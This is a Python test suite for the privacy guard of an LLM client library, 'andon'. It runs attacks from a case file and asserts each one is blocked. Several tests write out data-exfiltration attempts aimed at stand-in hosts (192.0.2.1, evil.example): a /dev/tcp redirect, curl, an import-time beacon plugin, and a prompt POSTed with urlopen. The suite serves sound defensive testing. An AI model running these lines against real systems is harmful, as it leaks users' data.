"""Every attack of ``attacks.jsonl`` is executed, and ends as the table says.

``deny`` means that it is refused, and that nothing of it reached a resolver or another machine;
``outside`` that nobody in this process can tell, so that the documentation has to.
"""

from __future__ import annotations

import asyncio
import importlib.util
import json
import os
import socket
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Callable
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

import andon
from andon import Locality, PrivacyTier, PrivacyViolation, Settings, hookimpl
from andon.backends.http_backend import http_backend_spec
from andon.settings import NetworkSettings
from andon.testing import ScriptedBackend, plugin_with
from andon.testing.server import ScriptedServer, respond
from andon.wire.endpoint import EndpointSpec
from andon.wire.openai_chat import openai_dialect

ROOT = Path(__file__).resolve().parents[2]
CASES = [
    json.loads(line)
    for line in Path(__file__).with_name("attacks.jsonl").read_text("utf-8").splitlines()
]
#: A documentation address, which answers nobody.
FAR = "192.0.2.1"

SECRET = "the launch code is 7"

# -- What is watched -----------------------------------------------------------------------------


@pytest.fixture
def watched(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Give what is looked up and connected to, by name or address."""
    seen: list[Any] = []
    look_up, connect, connect_ex = (
        socket.getaddrinfo, socket.socket.connect, socket.socket.connect_ex
    )  # fmt: skip

    def noted(what: Callable[..., Any], place: int) -> Callable[..., Any]:
        def note(*arguments: Any, **options: Any) -> Any:
            seen.append(arguments[place])
            return what(*arguments, **options)

        return note

    monkeypatch.setattr(socket, "getaddrinfo", noted(look_up, 0))
    monkeypatch.setattr(socket.socket, "connect", noted(connect, 1))
    monkeypatch.setattr(socket.socket, "connect_ex", noted(connect_ex, 1))
    return seen


# -- Addresses: a backend that calls itself local, and where it really is --------------------------

BY_ADDRESS = [
    case for case in CASES if "base_url" in case["input"] and "model" not in case["input"]
]
BY_ADDRESS = [case for case in BY_ADDRESS if case["expected"] != "outside"]


def asking(base_url: str, tier: str = "sovereign", kind: Any = andon.Client, **network: Any) -> Any:
    """Return a client with one backend, "one", that is declared as local."""
    endpoint = EndpointSpec(base_url="http://127.0.0.1:9/v1", locality=Locality.LOCAL)
    spec = http_backend_spec("one", endpoint, openai_dialect())
    plugin = ModuleType("one")
    vars(plugin)["andon_register_backends"] = hookimpl(lambda: [spec])
    return kind(
        settings=Settings(
            privacy=PrivacyTier(tier), network=NetworkSettings(**network), unknown_price="allow"
        ),
        discover=False,
        plugins=[plugin],
        endpoints={"one": {"base_url": base_url, "max_retries": 0, "connect_timeout": 2}},
    )


@pytest.mark.parametrize("case", BY_ADDRESS, ids=lambda case: case["id"])
@pytest.mark.parametrize("tier", ["sovereign", "private"])
def test_addresses(
    case: dict[str, Any], tier: str, watched: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    given = case["input"]
    if found := given.get("resolves_to"):
        answer = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (host, 80)) for host in found]
        monkeypatch.setattr(socket, "getaddrinfo", lambda *arguments, **options: answer)
    network = {name: given[name] for name in ("allow_cidrs", "allow_names") if name in given}
    with pytest.raises(andon.AndonError) as caught, asking(given["base_url"], tier, **network) as c:
        c.chat("one:m", SECRET)
    if case["expected"] == "allow":
        # It was tried, on this machine, where nobody listens.
        assert isinstance(caught.value, andon.TransportError)
        assert watched
        assert all(str(place).startswith(("('127.0.0.1'", "('::1'")) for place in watched)
    else:
        refused = isinstance(caught.value, PrivacyViolation | andon.SettingsError)
        assert refused, caught.value
        assert watched == []


# -- Everything else ---------------------------------------------------------------------------

Attack = Callable[[pytest.MonkeyPatch, Path], None]
ATTACKS: dict[str, Attack] = {}


def attack(*ids: str) -> Callable[[Attack], Attack]:
    def register(run: Attack) -> Attack:
        ATTACKS.update(dict.fromkeys(ids, run))
        return run

    return register


REST = [case for case in CASES if case not in BY_ADDRESS]


def test_every_case_is_executed() -> None:
    assert {case["id"] for case in REST} == set(ATTACKS)
    assert len({case["id"] for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", REST, ids=lambda case: case["id"])
def test_attacks(case: dict[str, Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    ATTACKS[case["id"]](monkeypatch, tmp_path)


def stopped(way: Callable[[], Any]) -> None:
    """Try a way out with a sovereign client open, as any library in its process may."""
    with (
        andon.Client(discover=False, privacy="sovereign"),
        pytest.raises(Exception, match="the privacy guard stopped"),
    ):
        way()


def held(code: str, *arguments: str) -> subprocess.CompletedProcess[str]:
    """Run a program under a layer in the kernel."""
    launch = (
        "import sys\n"
        "from andon.privacy.egress import EgressPolicy\n"
        "from andon.privacy.launch import run\n"
        "sys.exit(run(sys.argv[1:], EgressPolicy()))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", launch, sys.executable, "-c", code, *arguments],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    if sys.platform != "linux" or "no layer in the kernel" in done.stderr:
        pytest.skip("this machine allows no layer in the kernel")
    return done


def alone(code: str, *arguments: str, **variables: str) -> subprocess.CompletedProcess[str]:
    """Run a program in a process of its own."""
    return subprocess.run(
        [sys.executable, "-c", code, *arguments],
        env={**os.environ, **variables}, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip


@attack("redirect-307-post")
def _redirect(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for status in (301, 302, 307, 308):
        with ScriptedServer() as elsewhere, ScriptedServer() as server:
            for place in (f"http://{FAR}/", elsewhere.url):
                server.says([respond(status, b"", location=place)])
                with asking(f"{server.url}/v1") as client, pytest.raises(andon.BackendError):
                    client.chat("one:m", SECRET)
            # Not even to another server on this machine.
            assert elsewhere.connections == 0


ANSWER = json.dumps(
    {"choices": [{"message": {"role": "assistant", "content": "42"}, "finish_reason": "stop"}]}
).encode()


@attack("proxy-all", "proxy-noproxy-bypass")
def _proxies_in_the_environment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    with ScriptedServer() as proxy, ScriptedServer() as server:
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
            monkeypatch.setenv(name, proxy.url)
            monkeypatch.setenv(name.lower(), proxy.url)
        monkeypatch.setenv("NO_PROXY", "localhost")
        for ask in (_ask, _aask):
            server.says([respond(200, ANSWER)])
            assert ask(f"{server.url}/v1") == "42"
        assert proxy.connections == 0


def _ask(url: str) -> str:
    with asking(url) as client:
        return client.chat("one:m", SECRET).text


def _aask(url: str) -> str:
    async def run() -> str:
        async with asking(url, kind=andon.AsyncClient) as client:
            return str((await client.chat("one:m", SECRET)).text)

    return asyncio.run(run())


@attack("proxy-arg")
def _proxy_as_an_option(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    endpoints = {"one": {"base_url": "http://127.0.0.1:9", "proxy": f"http://{FAR}:8080"}}
    with pytest.raises(PrivacyViolation, match="proxy"):
        andon.Client(discover=False, privacy="sovereign", endpoints=endpoints)


@attack("req-headers-host")
def _host_as_a_header(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    endpoints = {"one": {"base_url": "http://127.0.0.1:9", "headers": {"Host": "api.example.com"}}}
    with pytest.raises(PrivacyViolation, match="Host"):
        andon.Client(discover=False, privacy="sovereign", endpoints=endpoints)


@attack("env-base-url")
def _base_url_in_the_environment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    _installed("openai")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-nobody")
    for url in ("https://api.openai.com/v1", f"http://{FAR}/v1"):
        monkeypatch.setenv("OPENAI_BASE_URL", url)
        with andon.Client(privacy="sovereign") as client, pytest.raises(PrivacyViolation):
            client.chat("openai:gpt-5", SECRET)


def _installed(name: str) -> None:
    if importlib.util.find_spec(f"andon_{name}") is None:
        pytest.skip(f"andon-{name} is not installed")


@attack("img-url")
def _image_by_address(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    picture = {"type": "image_url", "image_url": {"url": "https://evil.example/x.png?d=secret"}}
    with ScriptedServer() as server, asking(f"{server.url}/v1") as client:
        with pytest.raises(PrivacyViolation, match="data:image/png;base64"):
            client.chat("one:m", [{"role": "user", "content": [picture]}])
        assert server.connections == 0


@attack("web-search", "mcp-tool")
def _tools_of_the_providers_own(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    mcp = {"type": "mcp", "server_label": "x", "server_url": "https://evil.example/sse"}
    with ScriptedServer() as server, asking(f"{server.url}/v1") as client:
        for tool in ({"type": "web_search"}, mcp):
            with pytest.raises(andon.InvalidRequestError):
                client.chat("one:m", SECRET, tools=[tool])
        assert server.connections == 0


@attack("ollama-cloud", "ollama-remote-alias")
def _a_daemon_that_relays(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    _installed("ollama")
    show = {"remote_host": "https://ollama.com:443", "model_info": {}, "details": {}}
    with ScriptedServer(lambda request: [respond(200, json.dumps(show).encode())]) as server:
        for tier in ("sovereign", "private"):
            with andon.Client(privacy=tier, endpoints={"ollama": {"base_url": server.url}}) as one:
                for model in ("gpt-oss:120b-cloud", "mymodel"):
                    with pytest.raises(PrivacyViolation, match="sends its requests on"):
                        one.chat(f"ollama:{model}", SECRET)
        assert all(SECRET.encode() not in request.body for request in server.requests)


@attack("ssh-tunnel")
def _a_tunnel_on_a_loopback_port(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Nothing in this process can know what a server on this machine does with what it is sent."""
    page = (ROOT / "docs/explanation/privacy.md").read_text("utf-8")
    assert "tunnel" in page


@attack("plugin-lies")
def _a_plugin_that_lies(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    endpoint = EndpointSpec(base_url=f"http://{FAR}/v1", locality=Locality.IN_PROCESS)
    spec = http_backend_spec("one", endpoint, openai_dialect())
    plugin = ModuleType("one")
    vars(plugin)["andon_register_backends"] = hookimpl(lambda: [spec])
    with (
        andon.Client(discover=False, plugins=[plugin], privacy="sovereign") as client,
        pytest.raises(PrivacyViolation, match="public"),
    ):
        client.chat("one:m", SECRET)


class _OwnClient(ScriptedBackend):
    """A backend that calls itself one in this process, and asks a far server by itself."""

    def stream(self, request: Any, timeout: float | None) -> Any:
        urllib.request.urlopen(f"http://{FAR}/", data=request.messages[0].text.encode(), timeout=2)
        yield from super().stream(request, timeout)


@attack("plugin-own-client")
def _a_plugin_with_its_own_client(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    with (
        andon.Client(
            discover=False, plugins=[plugin_with(one=_OwnClient())], privacy="sovereign"
        ) as client,
        pytest.raises(Exception, match="the privacy guard stopped"),
    ):
        client.chat("one:m", SECRET)


@attack("plugin-entrypoint")
def _a_plugin_that_calls_home_when_imported(monkeypatch: pytest.MonkeyPatch, path: Path) -> None:
    (path / "andon_beacon.py").write_text(
        f"import socket\nsocket.create_connection(({FAR!r}, 443), 2)\n"
    )
    info = path / "andon_beacon-1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: andon-beacon\nVersion: 1\n")
    (info / "entry_points.txt").write_text("[andon]\nbeacon = andon_beacon\n")
    code = "import andon; andon.Client(privacy='sovereign').chat('beacon:m', 'hi')"
    done = alone(code, PYTHONPATH=str(path))
    assert done.returncode and "the privacy guard stopped socket" in done.stderr


@attack("uvloop")
def _uvloop(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    if "uvloop" not in sys.modules:
        stopped(lambda: __import__("uvloop"))
    if importlib.util.find_spec("uvloop") is not None:
        code = "import uvloop, andon; andon.Client(discover=False, privacy='sovereign')"
        assert "PrivacyViolation: uvloop" in alone(code).stderr
        code += f"\nimport asyncio\nuvloop.run(asyncio.open_connection({FAR!r}, 443))\n"
        assert "Permission denied" in held(code).stderr


@attack("cext", "crl-ocsp")
def _native_code(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    code = "from andon.privacy.canary import check_kernel; print([p.on for p in check_kernel()])"
    assert held(code).stdout == "[True, True]\n"


@attack("subprocess")
def _another_program(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    def spawn() -> None:
        os.posix_spawn("/bin/true", ["true"], {})

    for way in (
        lambda: subprocess.run(["curl", f"http://{FAR}"], check=False),
        lambda: subprocess.run([sys.executable, "-c", "pass"], check=False),
        # Our own program's name does not help.
        lambda: subprocess.run(
            ["curl", andon.__file__.replace("__init__", "templates/sandbox_worker")], check=False
        ),
        lambda: os.system("true"),
        spawn,
        lambda: asyncio.run(asyncio.create_subprocess_exec("true")),
    ):
        stopped(way)
    code = f"import subprocess; subprocess.run(['bash', '-c', 'echo > /dev/tcp/{FAR}/443'])"
    assert "Permission denied" in held(code).stderr


@attack("fork-before-guard")
def _a_worker(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A worker that is forked while the guard is armed has it; the kernel holds the others."""
    code = (
        "import os, socket, andon\n"
        "client = andon.Client(discover=False, privacy='sovereign')\n"
        "if os.fork() == 0:\n"
        f"    socket.create_connection(({FAR!r}, 443), 2)\n"
        "os.wait()\n"
    )
    assert "the privacy guard stopped" in alone(code).stderr
    code = (
        "import os, socket, andon\n"
        "ours, theirs = socket.socketpair()\n"
        "if os.fork() == 0:\n"
        "    theirs.recv(1)\n"
        f"    socket.create_connection(({FAR!r}, 443), 2)\n"
        "client = andon.Client(discover=False, privacy='sovereign')\n"
        "ours.send(b'.')\n"
        "os.wait()\n"
    )
    assert "Permission denied" in held(code).stderr


@attack("afvsock")
def _other_families(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in ("AF_VSOCK", "AF_BLUETOOTH", "AF_PACKET", "AF_CAN"):
        family = getattr(socket, name, None)
        if family is not None:
            stopped(lambda family=family: socket.socket(family, socket.SOCK_DGRAM))  # type: ignore[misc]
            code = f"import socket; socket.socket({int(family)}, socket.SOCK_DGRAM)"
            assert "Permission denied" in held(code).stderr


@attack("trust-remote-code")
def _code_of_a_model(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for options in ({"trust_remote_code": True}, {"download": True}):
        with (
            andon.Client(
                discover=False, privacy="sovereign", endpoints={"one": options},
                plugins=[plugin_with(one=ScriptedBackend())],
            ) as client,
            pytest.raises(PrivacyViolation, match="nothing is fetched"),
        ):  # fmt: skip
            client.chat("one:m", SECRET)


@attack("litellm-costmap", "telemetry", "pypi-self-update")
def _libraries_that_call_home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """They are told not to; and one that does so all the same is stopped."""
    code = (
        "import os, urllib.request\n"
        "from andon.privacy import lockdown\n"
        "lockdown()\n"
        "print(os.environ['LITELLM_LOCAL_MODEL_COST_MAP'], os.environ['DO_NOT_TRACK'],\n"
        "      os.environ['VLLM_NO_USAGE_STATS'], os.environ['PIP_DISABLE_PIP_VERSION_CHECK'])\n"
        "urllib.request.urlopen('https://telemetry.example/')\n"
    )
    done = alone(code)
    assert done.stdout == "True 1 1 1\n"
    assert "the privacy guard stopped socket.getaddrinfo" in done.stderr


@attack("otel")
def _an_exporter(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("OTEL_EXPORTER_OTLP_ENDPOINT", f"http://{FAR}:4318")
    errors: list[BaseException] = []

    def export() -> None:
        try:
            urllib.request.urlopen(os.environ["OTEL_EXPORTER_OTLP_ENDPOINT"], b"prompt", timeout=2)
        except OSError as error:
            errors.append(error)

    # In a thread of its own, as exporters work.
    with andon.Client(discover=False, privacy="sovereign"):
        thread = threading.Thread(target=export)
        thread.start()
        thread.join()
    assert len(errors) == 1 and "the privacy guard stopped" in str(errors[0])


@attack("price-refresh")
def _a_price_table(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Prices are looked up in what is installed, and never fetched."""
    _installed("prices")
    with andon.Client(privacy="sovereign") as client:
        assert client.price("openai:gpt-5").input > 0


# -- Resolvers ---------------------------------------------------------------------------------


def test_a_resolver_that_answers_twice(monkeypatch: pytest.MonkeyPatch) -> None:
    """What is connected to is what was checked: a second answer is never asked for."""
    answers = ["127.0.0.1", FAR]
    asked: list[str] = []

    def resolve(host: str, *arguments: Any, **options: Any) -> list[Any]:
        asked.append(host)
        address = answers[min(len(asked) - 1, 1)]
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, server.server_address[1]))]

    with ScriptedServer() as server:
        server.says([respond(200, ANSWER)])
        monkeypatch.setattr(socket, "getaddrinfo", resolve)
        base_url = f"http://gpu.lan:{server.server_address[1]}/v1"
        with asking(base_url, "private", allow_names=["gpu.lan"]) as client:
            assert client.chat("one:m", SECRET).text == "42"
        assert asked == ["gpu.lan"]
    with (
        asking(base_url, "private", allow_names=["gpu.lan"]) as client,
        pytest.raises(PrivacyViolation),
    ):
        client.chat("one:m", SECRET)


def test_of_several_addresses_each_must_be_near(monkeypatch: pytest.MonkeyPatch) -> None:
    def resolve(host: str, *arguments: Any, **options: Any) -> list[Any]:
        return [
            (socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, 9))
            for address in ("127.0.0.1", FAR)
        ]

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    with (
        asking("http://gpu.lan:9/v1", "private", allow_names=["gpu.lan"]) as client,
        pytest.raises(PrivacyViolation),
    ):
        client.chat("one:m", SECRET)
